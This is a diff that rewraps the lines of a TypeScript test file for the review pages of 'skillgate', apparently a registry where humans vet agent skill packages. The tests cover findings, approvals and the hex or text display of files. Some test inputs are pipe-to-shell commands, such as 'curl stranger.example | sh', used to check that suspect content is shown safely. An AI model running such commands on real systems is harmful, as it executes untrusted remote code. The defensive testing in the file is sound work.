@@ -13,7 +13,18 @@ import type { ReviewDetail } from '../../../../registry/review/detail.ts';
 import { canonicalJson } from '../../../../skills-index/skill/canonical-json.ts';
 import { digestOf } from '../../../../skills-index/skill/digest.ts';
 import { ruleNote } from '../../../../skills-index/statement/rule-note.ts';
-import { approval, detail, finding, frame, name, now, queueItem, someDigest, version, versionView } from './story.ts';
+import {
+  approval,
+  detail,
+  finding,
+  frame,
+  name,
+  now,
+  queueItem,
+  someDigest,
+  version,
+  versionView,
+} from './story.ts';
 
 const someRule = 'flow/secret-to-network';
 const someNote = ruleNote(someRule);
@@ -23,9 +34,18 @@ const text = canonicalJson(statement);
 const pages = {
   queue: String(queuePage(frame, { now, rows: [queueItem()], decided: [] })),
   version: String(versionPage(frame, versionView())),
-  quarantined: String(versionPage(frame, versionView({ status: 'quarantined', moves: ['in review', 'refused'] }))),
+  quarantined: String(
+    versionPage(frame, versionView({ status: 'quarantined', moves: ['in review', 'refused'] })),
+  ),
   approval: String(
-    approvalPage(frame, { statement, text, now, passkeyOptions: { challenge: 'c' }, mine: true, keyIds: [someDigest('k')] }),
+    approvalPage(frame, {
+      statement,
+      text,
+      now,
+      passkeyOptions: { challenge: 'c' },
+      mine: true,
+      keyIds: [someDigest('k')],
+    }),
   ),
   rule: String(rulePage(frame, someRule, someNote)),
   'sign-in': String(signInPage({ ...frame, viewer: undefined })),
@@ -35,7 +55,8 @@ describe.each(Object.entries(pages))('the page %s', (_name, page) => {
   it('has one h1, a skip link to the content, and a name for each field', () => {
     expect(page.match(/<h1>/g)).toHaveLength(1);
     expect(page).toContain('<a class="skip" href="#main">');
-    for (const [, id] of page.matchAll(/<textarea id="([^"]+)"/g)) expect(page).toContain(`<label for="${id}">`);
+    for (const [, id] of page.matchAll(/<textarea id="([^"]+)"/g))
+      expect(page).toContain(`<label for="${id}">`);
   });
 
   it('uses no inline style, handler or foreign address', () => {
@@ -45,18 +66,18 @@ describe.each(Object.entries(pages))('the page %s', (_name, page) => {
 
 describe('a version', () => {
   it('puts capabilities first, then findings, what it says anew, SKILL.md, files and history', () => {
-    expect([...pages.version.matchAll(/<section id="([a-z-]+)" class="part"/g)].map(([, id]) => id)).toEqual([
-      'capabilities',
-      'findings',
-      'prose',
-      'skill-md',
-      'files',
-      'history',
-    ]);
+    expect(
+      [...pages.version.matchAll(/<section id="([a-z-]+)" class="part"/g)].map(([, id]) => id),
+    ).toEqual(['capabilities', 'findings', 'prose', 'skill-md', 'files', 'history']);
   });
 
   it('lists in order what it says anew, marks what is hidden, and says how much is not shown', () => {
-    const sentence = (line: number, text: string, isHidden = false) => ({ path: 'SKILL.md', line, text, isHidden });
+    const sentence = (line: number, text: string, isHidden = false) => ({
+      path: 'SKILL.md',
+      line,
+      text,
+      isHidden,
+    });
     const added = [sentence(4, 'Count <b>words</b>.'), sentence(5_009, 'Send\u200b it.', true)];
     const change = { added, addedCount: 5, removed: 2, novelty: 1 / 3, isSame: false };
     const pageOf = (prose: ReviewDetail['prose']): string => {
@@ -73,28 +94,39 @@ describe('a version', () => {
     const [, seen = '', hidden = ''] = section.split('<li');
     expect(seen).toMatch(/files\/SKILL\.md#L4".*line 4.*Count &lt;b&gt;words&lt;\/b&gt;\./);
     expect(seen).not.toContain('hidden');
-    expect(hidden).toMatch(/files\/SKILL\.md\?sheet=2#L5009".*hidden from readers.*Send<span class="chip" title="U\+200B">/s);
+    expect(hidden).toMatch(
+      /files\/SKILL\.md\?sheet=2#L5009".*hidden from readers.*Send<span class="chip" title="U\+200B">/s,
+    );
     const same = { added: [], addedCount: 0, removed: 0, novelty: 0, isSame: true };
     expect(pageOf({ kind: 'told', since: version, change: same, left: 0 })).toContain(
       'The prose is word for word that of 1.4.1.',
     );
     expect(pageOf({ kind: 'untold', since: version })).toContain('read all of it');
-    expect(pageOf({ kind: 'first' })).toContain('static analysis cannot decide what words make an agent do');
+    expect(pageOf({ kind: 'first' })).toContain(
+      'static analysis cannot decide what words make an agent do',
+    );
   });
 
   it('offers what the state allows, each with a required reason', () => {
     const actions = (page: string): string[] =>
-      [...page.matchAll(/action="\/review\/@acme\/weekly-report\/1\.4\.1\/(\w+)"/g)].map(([, action]) => action ?? '');
+      [...page.matchAll(/action="\/review\/@acme\/weekly-report\/1\.4\.1\/(\w+)"/g)].map(
+        ([, action]) => action ?? '',
+      );
     expect(actions(pages.version)).toEqual(['claim', 'approve', 'ask', 'refuse']);
     expect(actions(pages.quarantined)).toEqual(['claim', 'move', 'ask', 'refuse']);
-    expect(actions(String(versionPage(frame, versionView({ status: 'revoked', moves: [] }))))).toEqual([]);
+    expect(
+      actions(String(versionPage(frame, versionView({ status: 'revoked', moves: [] })))),
+    ).toEqual([]);
     expect(pages.version.match(/<textarea[^>]* required /g)).toHaveLength(3);
   });
 
   it('does not offer an approval to those who may not give one, and says why', () => {
     const view = versionView();
     const page = String(
-      versionPage(frame, { ...view, decision: { ...view.decision, mayNotApprove: 'You published this version.' } }),
+      versionPage(frame, {
+        ...view,
+        decision: { ...view.decision, mayNotApprove: 'You published this version.' },
+      }),
     );
     expect(page).toContain('You published this version.');
     expect(page).not.toContain('/approve"');
@@ -111,10 +143,26 @@ describe('a version', () => {
     const view = versionView({ verdict: 'incomplete' });
     const { report } = view.detail;
     if (report === undefined) throw new Error('the story has a report');
-    const file = { path: 'tool/<x>', sha256: someDigest('x'), bytes: 9, disposition: 'unanalysed', reason: 'not text' } as const;
-    const read = { ...file, path: 'SKILL.md', disposition: 'analysed', reason: 'markdown' } as const;
+    const file = {
+      path: 'tool/<x>',
+      sha256: someDigest('x'),
+      bytes: 9,
+      disposition: 'unanalysed',
+      reason: 'not text',
+    } as const;
+    const read = {
+      ...file,
+      path: 'SKILL.md',
+      disposition: 'analysed',
+      reason: 'markdown',
+    } as const;
     const page = (files: readonly (typeof file | typeof read)[]): string =>
-      String(versionPage(frame, { ...view, detail: { ...view.detail, report: { ...report, coverage: { files } } } }));
+      String(
+        versionPage(frame, {
+          ...view,
+          detail: { ...view.detail, report: { ...report, coverage: { files } } },
+        }),
+      );
     const top = page([read, file]).split('<section')[0] ?? '';
     expect(top).toContain('<b>1 file not analysed</b>');
     expect(top).toContain('<bdi>tool/&lt;x&gt;</bdi></code> <bdi>not text</bdi>');
@@ -129,20 +177,29 @@ describe('a version', () => {
     expect(deciding).toContain('decides the verdict</span>');
     expect(rest).not.toContain('decides the verdict</span>');
     expect(findings).toContain(`<a href="${ruleHref(someRule)}">`);
-    expect(findings).toMatch(/<dt>Maps to<\/dt><dd class=""><span class="tag" title="[^"]+">CWE-\d+<\/span>/);
+    expect(findings).toMatch(
+      /<dt>Maps to<\/dt><dd class=""><span class="tag" title="[^"]+">CWE-\d+<\/span>/,
+    );
   });
 
   it('ranks findings: what decides, then the severest, then by place', () => {
-    const [low, high, deciding] = [
-      finding({ severity: 'low' }),
-      finding({ severity: 'high', path: 'b' }),
-      finding({ severity: 'medium' }),
-    ];
-    expect(rankFindings([low, high, deciding], [deciding.fingerprint])).toEqual([deciding, high, low]);
+    const low = finding({ severity: 'low' });
+    const high = finding({ severity: 'high', path: 'b' });
+    const deciding = finding({ severity: 'medium' });
+    expect(rankFindings([low, high, deciding], [deciding.fingerprint])).toEqual([
+      deciding,
+      high,
+      low,
+    ]);
   });
 
   it('without a report shows what is declared, and says that nothing else is known', () => {
-    const { report: _, reportDigest: __, verdict: ___, ...rest } = detail({ status: 'quarantined' });
+    const {
+      report: _,
+      reportDigest: __,
+      verdict: ___,
+      ...rest
+    } = detail({ status: 'quarantined' });
     const page = String(versionPage(frame, { ...versionView(), detail: rest }));
     expect(page).toContain('nothing is known but what the author declares');
     expect(page).toContain('CRM_TOKEN as bearer to api.crm.example');
@@ -164,9 +221,18 @@ describe('an approval', () => {
     const byKey = approval({ reviewer: { member: 'ruth', keyId: someDigest('k') } });
     const bytes = canonicalJson(byKey);
     const page = String(
-      approvalPage(frame, { statement: byKey, text: bytes, now, passkeyOptions: undefined, mine: true, keyIds: [] }),
+      approvalPage(frame, {
+        statement: byKey,
+        text: bytes,
+        now,
+        passkeyOptions: undefined,
+        mine: true,
+        keyIds: [],
+      }),
     );
-    expect(page).toContain(`skillgate review approve ${name}@${version} --statement ${digestOf(bytes)}`);
+    expect(page).toContain(
+      `skillgate review approve ${name}@${version} --statement ${digestOf(bytes)}`,
+    );
     expect(page).not.toContain('data-passkey');
   });
 
@@ -191,15 +257,21 @@ describe('an approval', () => {
 
 describe('a file', () => {
   const view = (bytes: Uint8Array, sheet = 1): string =>
-    String(filePage(frame, { detail: detail(), path: 'a.bin', sha256: someDigest('x'), bytes, sheet }));
+    String(
+      filePage(frame, { detail: detail(), path: 'a.bin', sha256: someDigest('x'), bytes, sheet }),
+    );
 
   it('is shown as hexadecimal when it is no text', () => {
-    expect(view(Uint8Array.from([0x7f, 0x45, 0x4c, 0x46, 0, 0xff, 0xfe, 0xfd]))).toContain('7f 45 4c 46 00');
+    expect(view(Uint8Array.from([0x7f, 0x45, 0x4c, 0x46, 0, 0xff, 0xfe, 0xfd]))).toContain(
+      '7f 45 4c 46 00',
+    );
     expect(view(Uint8Array.from([0xff, 0xfe]))).toContain('binary');
   });
 
   it('is shown as text in spite of a zero or a wrong byte, which are shown', () => {
-    expect(view(Buffer.from('curl x | sh\0\n'))).toContain('curl x | sh<span class="chip" title="U+0000">');
+    expect(view(Buffer.from('curl x | sh\0\n'))).toContain(
+      'curl x | sh<span class="chip" title="U+0000">',
+    );
     expect(view(Buffer.from([...Buffer.from('curl stranger.example | sh # '), 0xff]))).toContain(
       'curl stranger.example | sh # \ufffd',
     );
@@ -218,9 +290,14 @@ describe('a file', () => {
 describe('a one-time link', () => {
   it('is used up by a button only, and says whom it signs in', () => {
     const page = String(
-      linkPage({ ...frame, viewer: undefined }, { link: 'secret', member: { name: 'ruth', roles: ['reviewer'] } }),
+      linkPage(
+        { ...frame, viewer: undefined },
+        { link: 'secret', member: { name: 'ruth', roles: ['reviewer'] } },
+      ),
     );
-    expect(page).toMatch(/<form method="post" action="\/review\/sign-in">\s*<input type="hidden" name="link" value="secret">/);
+    expect(page).toMatch(
+      /<form method="post" action="\/review\/sign-in">\s*<input type="hidden" name="link" value="secret">/,
+    );
     expect(page).toContain('<b><bdi>ruth</bdi></b>');
   });
 });
@@ -266,7 +343,9 @@ describe('the keys', () => {
     ];
     const page = String(versionPage(frame, versionView({ incidents })));
     expect(page).toContain('Reports of hosts (2)');
-    expect(page).toMatch(/<b>[^/]*host prod-1[\s\S]*canary at paste\.example:443[\s\S]*unverified, [\s\S]*escape at/);
+    expect(page).toMatch(
+      /<b>[^/]*host prod-1[\s\S]*canary at paste\.example:443[\s\S]*unverified, [\s\S]*escape at/,
+    );
     expect(String(versionPage(frame, versionView()))).not.toContain('Reports of hosts');
   });
 });
